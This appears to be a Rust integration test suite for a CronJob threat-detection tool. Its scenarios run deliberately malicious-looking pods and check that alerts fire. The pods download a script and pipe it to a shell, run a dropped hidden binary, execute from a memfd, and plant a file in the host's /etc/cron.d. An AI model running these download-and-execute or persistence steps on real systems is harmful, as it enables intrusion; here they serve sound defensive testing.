//! T1053.007 scenarios end to end: CronJob-style pods run through the real containerd (CRI, as
//! the kubelet drives it), the real sensor in this kernel reports to the real collector, whose
//! rules raise alerts that are read back with `jobwatch alerts`. Malicious pods must raise the
//! expected alerts naming their CronJob; benign ones must stay quiet after the learning runs.

use std::{
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use jobwatch_tests::{
    KillOnDrop, TempDir, binary,
    containerd::{ContainerSpec, Containerd, Cri, PodSpec, cronjob_pod, uuid},
    privileged,
    stack::{cli, cli_json, start_collector, start_sensor},
};
use serde_json::Value;

/// Containerd, the collector and the sensor reporting to it.
struct Stack {
    rt: tokio::runtime::Runtime,
    cri: Cri,
    cli: PathBuf,
    socket: PathBuf,
    dir: TempDir,
    // Dropped in reverse order of start: the sensor first, containerd last.
    _sensor: KillOnDrop,
    _collector: KillOnDrop,
    _ctd: Containerd,
}

impl Stack {
    fn start(tag: &str) -> Stack {
        let (collector_bin, sensor_bin, cli) = (
            binary("jobwatch-collector", "collector"),
            binary("jobwatch-sensor", "sensor"),
            binary("jobwatch-cli", "jobwatch"),
        );
        let ctd = Containerd::start();
        let dir = TempDir::new(tag);
        let socket = dir.join("collector.sock");
        let output = dir.join("alerts.jsonl");
        let collector = start_collector(
            &collector_bin,
            &dir.join("collector.db"),
            &socket,
            &["--alerts-output", output.to_str().expect("utf-8 path")],
        );
        let sensor = start_sensor(
            &sensor_bin,
            dir.path(),
            &socket,
            // Host processes are filtered out in the kernel: the scenarios are about pods, and
            // the rest of a busy machine must not crowd them out of the ring buffer.
            &format!(
                "report_host_processes = false\n[containerd]\nsocket = \"{}\"",
                ctd.socket().display()
            ),
        );
        let rt = jobwatch_tests::runtime();
        let cri = rt.block_on(ctd.cri());
        Stack {
            rt,
            cri,
            cli,
            socket,
            dir,
            _sensor: sensor,
            _collector: collector,
            _ctd: ctd,
        }
    }

    /// Runs one pod with one container to its end (exit code `exit`), then removes the pod.
    fn run(&mut self, pod: &PodSpec, spec: &ContainerSpec, exit: i32) -> String {
        let sandbox = self.rt.block_on(self.cri.run_pod(pod));
        let id = self
            .rt
            .block_on(self.cri.create_container(&sandbox, pod, spec));
        self.rt.block_on(self.cri.start_container(&id));
        assert_eq!(
            self.rt
                .block_on(self.cri.wait_exit(&id, Duration::from_secs(30))),
            exit,
            "exit code of {} ({:?})",
            pod.name,
            spec.command
        );
        self.rt.block_on(self.cri.remove_pod(&sandbox));
        id
    }

    /// `jobwatch alerts -o json` with `args`.
    fn alerts(&self, args: &[&str]) -> Vec<Value> {
        let mut all = vec!["alerts", "-o", "json"];
        all.extend_from_slice(args);
        cli_json(&self.cli, &self.socket, &all)
    }

    /// Waits until the CronJob's alerts include every rule of `rules`; returns them all.
    fn wait_alerts(&self, cronjob: &str, rules: &[&str]) -> Vec<Value> {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let alerts = self.alerts(&["--cronjob", cronjob]);
            let missing: Vec<&&str> = rules
                .iter()
                .filter(|r| !alerts.iter().any(|a| a["rule"]["id"] == **r))
                .collect();
            if missing.is_empty() {
                return alerts;
            }
            if Instant::now() >= deadline {
                // What the collector stored of the CronJob, to tell a missed event from a
                // missed judgement.
                let events = cli_json(
                    &self.cli,
                    &self.socket,
                    &["events", "-o", "json", "--cronjob", cronjob],
                );
                panic!(
                    "CronJob {cronjob}: no alert of {missing:?} after 60 s; alerts: {alerts:#?}\n\
                     stored events of the CronJob: {events:#?}"
                );
            }
            std::thread::sleep(Duration::from_millis(500));
        }
    }

    /// Waits until the collector stored the exit of container `id` (every event of its run
    /// is then in the collector, in the sensor's order).
    fn wait_exit_stored(&self, id: &str) {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let events = cli_json(
                &self.cli,
                &self.socket,
                &[
                    "events",
                    "-o",
                    "json",
                    "--kind",
                    "container-exited",
                    "--limit",
                    "10000",
                ],
            );
            if events
                .iter()
                .any(|e| e["container_exited"]["container"]["id"] == id)
            {
                return;
            }
            assert!(
                Instant::now() < deadline,
                "the exit of {id} never reached the collector"
            );
            std::thread::sleep(Duration::from_millis(300));
        }
    }
}

fn sh(script: &str) -> Vec<String> {
    vec!["/bin/sh".into(), "-c".into(), script.into()]
}

fn busybox(command: Vec<String>) -> ContainerSpec {
    ContainerSpec {
        name: "main".into(),
        image: "busybox".into(),
        command,
        ..ContainerSpec::default()
    }
}

/// The alert of `rule` about container `container`, checked to carry the pod's whole chain.
fn alert<'a>(alerts: &'a [Value], rule: &str, pod: &PodSpec, container: &str) -> &'a Value {
    let a = alerts
        .iter()
        .find(|a| a["rule"]["id"] == rule && a["container_id"] == container)
        .unwrap_or_else(|| panic!("no {rule} alert for container {container}: {alerts:#?}"));
    assert_eq!(a["container_name"], "main");
    assert_eq!(a["image"], "docker.io/library/busybox:jobwatch");
    in_pod(a, pod)
}

/// The new-CronJob alert of the pod (raised by whichever of its containers, the sandbox
/// included, was seen first).
fn new_cronjob<'a>(alerts: &'a [Value], pod: &PodSpec) -> &'a Value {
    let a = alerts
        .iter()
        .find(|a| a["rule"]["id"] == "JW001" && a["pod"] == pod.name.as_str())
        .unwrap_or_else(|| panic!("no JW001 alert for pod {}: {alerts:#?}", pod.name));
    assert!(!a["container_id"].as_str().unwrap_or_default().is_empty());
    in_pod(a, pod)
}

fn in_pod<'a>(a: &'a Value, pod: &PodSpec) -> &'a Value {
    assert_eq!(a["node"], "node-e2e");
    assert_eq!(a["namespace"], pod.namespace.as_str());
    assert_eq!(a["pod"], pod.name.as_str());
    assert_eq!(a["job"], pod.labels["job-name"].as_str());
    assert_eq!(a["rule"]["technique"], "T1053.007");
    assert!(!a["evidence"].as_array().expect("evidence").is_empty());
    a
}

/// A one-file HTTP server on 127.0.0.1 serving `body` to every GET, in a thread.
fn serve(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().map_while(Result::ok) {
            let mut buf = [0u8; 2048];
            let _ = conn.read(&mut buf);
            let _ = write!(
                conn,
                "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

#[test]
fn download_and_run_from_tmp_raises_drift_and_pipe_alerts() {
    if !privileged("download_and_run_from_tmp_raises_drift_and_pipe_alerts") {
        return;
    }
    let mut s = Stack::start("det-download");
    let port = serve("#!/bin/sh\n/bin/echo pwned > /tmp/pwned\n");
    let pod = cronjob_pod("updater", 29_100_000, "batch");
    let script = format!(
        "/bin/wget -q -O /tmp/run.sh http://127.0.0.1:{port}/run.sh && /bin/chmod 755 \
         /tmp/run.sh && /tmp/run.sh && /bin/wget -q -O- http://127.0.0.1:{port}/run.sh | /bin/sh"
    );
    let id = s.run(&pod, &busybox(sh(&script)), 0);
    let alerts = s.wait_alerts("updater", &["JW001", "JW003", "JW004", "JW006"]);

    let drift = alert(&alerts, "JW004", &pod, &id);
    assert_eq!(drift["severity"], "high");
    assert_eq!(drift["cronjob"], "updater");
    assert_eq!(drift["details"]["path"], "/tmp/run.sh");
    assert_eq!(
        drift["message"],
        "executed /tmp/run.sh, created or made executable after the container started"
    );
    // Evidence: the file's creation (or chmod) by the job, then the exec.
    let evidence = drift["evidence"].as_array().expect("evidence");
    assert_eq!(evidence.len(), 2, "{evidence:#?}");
    assert_eq!(evidence[0]["event"]["file_created"]["path"], "/tmp/run.sh");
    assert_eq!(
        evidence[1]["event"]["process_exec"]["filename"],
        "/tmp/run.sh"
    );
    // Ancestry: the script, then the `sh -c` that ran it.
    let ancestry = drift["ancestry"].as_array().expect("ancestry");
    assert_eq!(ancestry[0]["binary"], "/tmp/run.sh");
    assert_eq!(ancestry[1]["binary"], "/bin/sh");
    assert_eq!(ancestry[1]["args"][2], script.as_str());

    let pipe = alert(&alerts, "JW006", &pod, &id);
    assert_eq!(pipe["details"]["kind"], "download_piped_to_shell");
    assert_eq!(pipe["message"], "sh runs `wget` piped into a shell");
    assert_eq!(alert(&alerts, "JW003", &pod, &id)["severity"], "low");
    assert_eq!(new_cronjob(&alerts, &pod)["severity"], "medium");

    // The compact view names the CronJob on each alert's line.
    let text = cli(&s.cli, &s.socket, &["alerts", "--cronjob", "updater"]);
    for rule in ["JW001", "JW004", "JW006"] {
        assert!(
            text.lines()
                .any(|l| l.contains(rule) && l.contains("updater")),
            "{rule}: {text}"
        );
    }
    // And the JSON-lines output has them too.
    let lines = std::fs::read_to_string(s.dir.join("alerts.jsonl")).expect("alerts output");
    let written: Vec<Value> = lines
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    assert!(
        written
            .iter()
            .any(|a| a["rule"]["id"] == "JW004" && a["cronjob"] == "updater"),
        "{lines}"
    );
}

#[test]
fn a_dropped_binary_made_executable_and_run_is_drift() {
    if !privileged("a_dropped_binary_made_executable_and_run_is_drift") {
        return;
    }
    let mut s = Stack::start("det-dropped");
    let pod = cronjob_pod("cleanup", 29_100_100, "batch");
    let id = s.run(
        &pod,
        &busybox(sh("/bin/mkdir -p /tmp/.cache && /bin/cp /bin/busybox \
             /tmp/.cache/busybox && /bin/chmod +x /tmp/.cache/busybox && \
             /tmp/.cache/busybox true")),
        0,
    );
    let alerts = s.wait_alerts("cleanup", &["JW004"]);
    let drift = alert(&alerts, "JW004", &pod, &id);
    assert_eq!(drift["details"]["path"], "/tmp/.cache/busybox");
    assert_eq!(drift["cronjob"], "cleanup");
    let evidence = drift["evidence"].as_array().expect("evidence");
    assert_eq!(
        evidence[0]["event"]["file_created"]["path"],
        "/tmp/.cache/busybox"
    );
    assert_eq!(
        evidence[1]["event"]["process_exec"]["args"],
        serde_json::json!(["/tmp/.cache/busybox", "true"])
    );
}

#[test]
fn exec_from_a_memfd_is_fileless() {
    if !privileged("exec_from_a_memfd_is_fileless") {
        return;
    }
    // The loader, static (the busybox image has no libc), mounted read-only into the pod.
    let tools = TempDir::new("det-memfd-tools");
    let loader = tools.join("memfd-exec");
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("payload/memfd_exec.rs");
    let status = Command::new(std::env::var("RUSTC").unwrap_or_else(|_| "rustc".into()))
        .args([
            "--edition",
            "2024",
            "-C",
            "opt-level=1",
            "-C",
            "target-feature=+crt-static",
        ])
        .arg("-o")
        .arg(&loader)
        .arg(&source)
        .status()
        .expect("rustc runs");
    assert!(status.success(), "building the static memfd loader");

    let mut s = Stack::start("det-memfd");
    let pod = cronjob_pod("miner", 29_100_200, "batch");
    let spec = ContainerSpec {
        host_mounts: vec![(tools.path().to_path_buf(), "/opt/loader".into(), true)],
        ..busybox(vec![
            "/opt/loader/memfd-exec".into(),
            "/bin/busybox".into(),
            "true".into(),
        ])
    };
    let id = s.run(&pod, &spec, 0);
    let alerts = s.wait_alerts("miner", &["JW005"]);
    let fileless = alert(&alerts, "JW005", &pod, &id);
    assert_eq!(fileless["severity"], "critical");
    assert_eq!(fileless["details"]["memfd"], "true");
    assert_eq!(fileless["cronjob"], "miner");
    let exec = &fileless["evidence"][0]["event"]["process_exec"];
    assert_eq!(exec["flags"]["memfd"], true);
    assert_eq!(exec["args"], serde_json::json!(["true"]));
    // The loader replaced itself with the memfd: the same pid executed the loader first.
    let pid = &fileless["ancestry"][0]["pid"];
    assert_eq!(&exec["process"]["pid"], pid);
    let loader = cli_json(
        &s.cli,
        &s.socket,
        &[
            "events",
            "-o",
            "json",
            "--kind",
            "exec",
            "--cronjob",
            "miner",
        ],
    );
    assert!(
        loader.iter().any(
            |e| e["process_exec"]["filename"] == "/opt/loader/memfd-exec"
                && &e["process_exec"]["process"]["pid"] == pid
        ),
        "{loader:#?}"
    );
}

#[test]
fn a_privileged_root_container_writing_the_hosts_cron_directory() {
    if !privileged("a_privileged_root_container_writing_the_hosts_cron_directory") {
        return;
    }
    let cron_dir = Path::new("/etc/cron.d");
    let made_dir = !cron_dir.exists();
    let name = format!("jobwatch-scenario-{}", &uuid()[..8]);
    let host_file = cron_dir.join(&name);
    // Removes what the pod writes on this machine, whatever happens.
    struct Cleanup(PathBuf, bool);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
            if self.1 {
                let _ = std::fs::remove_dir(self.0.parent().expect("parent"));
            }
        }
    }
    let _cleanup = Cleanup(host_file.clone(), made_dir);

    let mut s = Stack::start("det-hostcron");
    let mut pod = cronjob_pod("janitor", 29_100_300, "kube-system");
    pod.privileged = true;
    let spec = ContainerSpec {
        privileged: true,
        host_mounts: vec![(PathBuf::from("/"), "/host".into(), false)],
        // A comment only: nothing runs even if cron reads it.
        ..busybox(sh(&format!(
            "/bin/mkdir -p /host/etc/cron.d && /bin/echo '# jobwatch scenario test' > \
             /host/etc/cron.d/{name}"
        )))
    };
    let id = s.run(&pod, &spec, 0);
    assert!(host_file.exists(), "the pod wrote {}", host_file.display());
    let alerts = s.wait_alerts("janitor", &["JW001", "JW002", "JW003", "JW007"]);

    let plant = alert(&alerts, "JW007", &pod, &id);
    assert_eq!(plant["severity"], "critical");
    assert_eq!(
        plant["details"]["host_path"],
        format!("/etc/cron.d/{name}").as_str()
    );
    assert_eq!(plant["details"]["host_mount"], "/ -> /host");
    assert_eq!(plant["details"]["pattern"], "/etc/cron.d/**");
    let host = alert(&alerts, "JW002", &pod, &id);
    let reasons = host["details"]["reasons"].as_str().expect("reasons");
    assert!(reasons.contains("privileged"), "{reasons}");
    assert!(
        reasons.contains("host path / mounted at /host"),
        "{reasons}"
    );
    assert_eq!(alert(&alerts, "JW003", &pod, &id)["details"]["uid"], "0");
    // A new CronJob in kube-system is high.
    assert_eq!(new_cronjob(&alerts, &pod)["severity"], "high");
}

#[test]
fn a_cronjob_whose_third_run_starts_a_shell() {
    if !privileged("a_cronjob_whose_third_run_starts_a_shell") {
        return;
    }
    let mut s = Stack::start("det-baseline");
    let minute = 29_100_400;
    let mut pods = Vec::new();
    for (n, command) in [
        vec!["/bin/date".to_string()],
        vec!["/bin/date".to_string()],
        sh("/bin/date; /bin/id"),
    ]
    .into_iter()
    .enumerate()
    {
        let pod = cronjob_pod("etl", minute + n as u64, "data");
        let spec = ContainerSpec {
            run_as_user: Some(65534),
            run_as_group: Some(65534),
            ..busybox(command)
        };
        let id = s.run(&pod, &spec, 0);
        s.wait_exit_stored(&id);
        pods.push((pod, id));
    }
    let alerts = s.wait_alerts("etl", &["JW008"]);
    let (third, third_id) = &pods[2];
    let changed: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["rule"]["id"] == "JW008")
        .collect();
    assert!(
        changed
            .iter()
            .all(|a| a["job"] == third.labels["job-name"].as_str()),
        "only the third run is new: {changed:#?}"
    );
    let a = alert(&alerts, "JW008", third, third_id);
    assert_eq!(a["details"]["run"], "3");
    let new = a["details"]["new_items"].as_str().expect("new_items");
    assert!(new.lines().any(|l| l == "exec /bin/sh"), "{new}");
    assert!(
        a["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("run 3 of CronJob data/etl")),
        "{a:#?}"
    );
    // Runs one scheduled minute apart: the new-CronJob alert was followed by its
    // every-minute escalation.
    let every: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["rule"]["id"] == "JW001" && a["details"]["schedule"] == "every minute")
        .collect();
    assert_eq!(every.len(), 1, "{alerts:#?}");
    assert_eq!(every[0]["severity"], "high");
}

#[test]
fn benign_cronjobs_raise_nothing_above_info_after_learning() {
    if !privileged("benign_cronjobs_raise_nothing_above_info_after_learning") {
        return;
    }
    let mut s = Stack::start("det-benign");
    let jobs = [
        (
            "backup",
            "/bin/tar -cf /tmp/backup-$(/bin/date +%s).tar /etc/passwd /etc/group && \
             /bin/gzip /tmp/backup-*.tar && /bin/ls /tmp > /dev/null",
        ),
        (
            "report",
            "/bin/echo \"report $(/bin/date)\" > /tmp/report-$(/bin/date +%Y%m%d%H%M%S).txt; \
             /bin/cat /etc/passwd > /dev/null; /bin/sleep 1",
        ),
    ];
    let mut third_jobs = Vec::new();
    for run in 0..3u64 {
        for (cronjob, script) in jobs {
            // Hourly, in its own network namespace, not root: a well-behaved batch job.
            let mut pod = cronjob_pod(cronjob, 29_101_000 + run * 60, "ops");
            pod.host_network = false;
            let spec = ContainerSpec {
                run_as_user: Some(65534),
                run_as_group: Some(65534),
                ..busybox(sh(script))
            };
            let id = s.run(&pod, &spec, 0);
            s.wait_exit_stored(&id);
            if run == 2 {
                third_jobs.push(pod.labels["job-name"].clone());
            }
        }
    }
    for (cronjob, _) in jobs {
        let alerts = s.wait_alerts(cronjob, &["JW001"]);
        let loud: Vec<&Value> = alerts
            .iter()
            .filter(|a| a["rule"]["id"] != "JW001" && a["severity"] != "info")
            .collect();
        assert!(loud.is_empty(), "{cronjob}: {loud:#?}");
        let after_learning: Vec<&Value> = alerts
            .iter()
            .filter(|a| third_jobs.iter().any(|j| a["job"] == j.as_str()))
            .collect();
        assert!(after_learning.is_empty(), "{cronjob}: {after_learning:#?}");
        // Only the first run's new-CronJob alert, at its shipped severity.
        assert_eq!(alerts.len(), 1, "{cronjob}: {alerts:#?}");
        assert_eq!(alerts[0]["severity"], "medium");
    }
}
